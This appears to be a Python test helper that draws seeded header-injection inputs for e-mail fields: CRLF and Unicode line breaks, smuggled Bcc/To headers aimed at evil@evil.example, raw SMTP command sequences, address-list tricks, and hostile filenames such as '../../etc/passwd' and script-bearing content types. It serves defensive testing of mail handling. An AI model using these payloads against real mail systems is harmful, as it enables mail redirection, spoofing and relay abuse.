"""What an attacker would write into a field, drawn from a seed."""

from random import Random

EVIL = "evil@evil.example"
_BREAKS = (
    *(
        "\r\n",
        "\n",
        "\r",
        "\r\n\r\n",
        "\n\n",
        "\r\n ",
        "\n\t",
        "\r\n\t\r\n",
        "\x00",
        "\x00\r\n",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1e",
        "\x1b",
        "\x7f",
    ),
    *("\x85", "\u2028", "\u2029", "\u560a\u560d", "\ufeff", "\u202e", "\udc0a", "\ud800", "\uff0d\uff1c", "\u0600"),
    *(
        "%0a",
        "%0d%0a",
        "%0D%0A%20",
        "%E2%80%A8",
        "\\r\\n",
        "\\n",
        "&#13;&#10;",
        "=0D=0A",
        "=\r\n",
        "\r\n.\r\n",
        "\n.\n",
        "\r.\r",
        "\n.\r\n",
        "\r\n.\n",
    ),
    *(
        "=?UTF-8?Q?=0A?=",
        "=?utf-8?q?=0D=0A?=",
        "=?UTF-8?B?DQo=?=",
        "=?utf-7?q?+AA0ACg-?=",
        "=?iso-2022-jp?b?DQo?=",
        "?=\r\n =?utf-8?q?",
        "=\x00?utf-8?q?=0A?=",
    ),
)
_HEADERS = (
    *(f"Bcc: {EVIL}", f"Cc: {EVIL}", f"To: {EVIL}", f"From: {EVIL}", f"Sender: {EVIL}", f"Reply-To: {EVIL}", f"Return-Path: <{EVIL}>"),
    *(
        "Subject: evil",
        "Message-ID: <evil@evil.example>",
        "Date: Thu, 1 Jan 1970 00:00:00 +0000",
        "MIME-Version: 1.0",
        "X-Evil: 1",
        ": evil",
        "Evil",
    ),
    *(
        "Content-Type: text/html\r\n\r\n<script>evil()</script>",
        "Content-Type: multipart/mixed; boundary=evil\r\n\r\n--evil\r\n",
        "Content-Transfer-Encoding: 8bit",
    ),
    *("Disposition-Notification-To: " + EVIL, "List-Unsubscribe: <mailto:evil@evil.example>", "Resent-To: " + EVIL),
    *("--=_", "--=_0\r\nContent-Type: text/html\r\n\r\nevil", "From evil@evil.example Thu Jan  1 00:00:00 1970", ".", "..", "QUIT", "RSET"),
    f"MAIL FROM:<{EVIL}>\r\nRCPT TO:<{EVIL}>\r\nDATA\r\nSubject: evil\r\n\r\nevil\r\n.\r\n",
)
_ADDRESSES = (
    *(
        f"a@b.example, {EVIL}",
        f"a@b.example>,<{EVIL}",
        f"a@b.example>\r\nRCPT TO:<{EVIL}>",
        f"<{EVIL}>",
        f"a@b.example <{EVIL}>",
        f"{EVIL}(a@b.example)",
    ),
    *(
        f"Group: a@b.example, {EVIL};",
        f"(comment\r\n)a@b.example,{EVIL}",
        f'"a\r\nBcc: {EVIL}"@b.example',
        f"@hop.example:{EVIL}",
        "a@[127.0.0.1]",
    ),
    *(
        f"a@b.example\r\nBcc: {EVIL}",
        "a@b.example\x00",
        "a@b.example\n",
        f"a%{EVIL}",
        f"{EVIL};a@b.example",
        "a@b.example SIZE=1",
        "a@b.example> NOTIFY=NEVER",
    ),
    *(
        "ä@b.example",
        "a@bücher.example",
        "a@b\u3002example",
        "a@b.example\u2028",
        f"=?utf-8?q?{EVIL}?=",
        "a@b.example?bcc=" + EVIL,
        "postmaster",
        "",
    ),
)
_FILES = (
    *(
        'a.pdf"; name="evil.html',
        'a.pdf"\r\nContent-Type: text/html\r\n\r\n<script>',
        "a.pdf\r\nX-Evil: 1",
        "../../etc/passwd",
        "a\x00.pdf",
        "a.pdf;evil=1",
    ),
    *(
        "filename*0*=utf-8''a%0d%0aBcc:%20evil",
        "utf-8''%0D%0ABcc%3A",
        "=?utf-8?q?a=0D=0A.pdf?=",
        "a\\\r\n.pdf",
        "\u202efdp.exe",
        "🔩" * 200 + ".pdf",
        "ü" * 300,
        "x" * 400,
        "",
    ),
)
_MEDIA = (
    *(
        "text/html\r\nBcc: evil@evil.example",
        "message/rfc822",
        "MESSAGE/RFC822",
        "message/partial",
        "multipart/mixed; boundary=evil",
        "multipart/alternative",
    ),
    *(
        'text/plain; name="a"\r\n X: y',
        "text/html\n\n<script>",
        "application/pdf\x00",
        "application/\r\npdf",
        "text",
        "/",
        "a/b/c",
        "text/html;charset=utf-7",
        "ＴＥＸＴ/html",
        "İ/x",
        "",
    ),
)
_LONG = (
    "x" * 1_200,
    "é" * 900,
    "🔩" * 400,
    "word " * 300,
    '"' * 300,
    "\\" * 300,
    "=?" * 400,
    "\r\n " * 300,
    "." * 1_100,
    ("." + "y" * 75 + "\r\n") * 20,
    "(" * 500,
    "<" * 300,
)
_AROUND = ("", "4711", "Kabelwerk", "Ä", ", ", '"', "\\", "'", " ", "\t", "(", "a: ", "😀", "x" * 60, "x" * 69, "=", "?=", ">", ";")


def words(random: Random) -> str:
    """For a name, a subject, a text."""
    draw = random.random()
    if draw < 0.1:
        return random.choice(_LONG) + random.choice(_BREAKS) + random.choice(_HEADERS)
    if draw < 0.15:
        return random.choice(_ADDRESSES)
    pieces = [random.choice(_AROUND)]
    for _ in range(random.randint(1, 3)):
        pieces += [random.choice(_BREAKS), random.choice(_HEADERS), random.choice((*_BREAKS, ""))]
    return "".join([*pieces, random.choice(_AROUND)])


def an_address(random: Random) -> str:
    """For an e-mail address."""
    chosen = random.choice(_ADDRESSES)
    return chosen if random.random() < 0.6 else f"a{random.choice(_BREAKS)}{random.choice(_HEADERS)}@{random.choice(_AROUND)}b.example"


def filename(random: Random) -> str:
    """For a document."""
    return random.choice(_FILES) if random.random() < 0.6 else words(random)


def media_type(random: Random) -> str:
    """For a document."""
    return random.choice(_MEDIA) if random.random() < 0.7 else words(random)
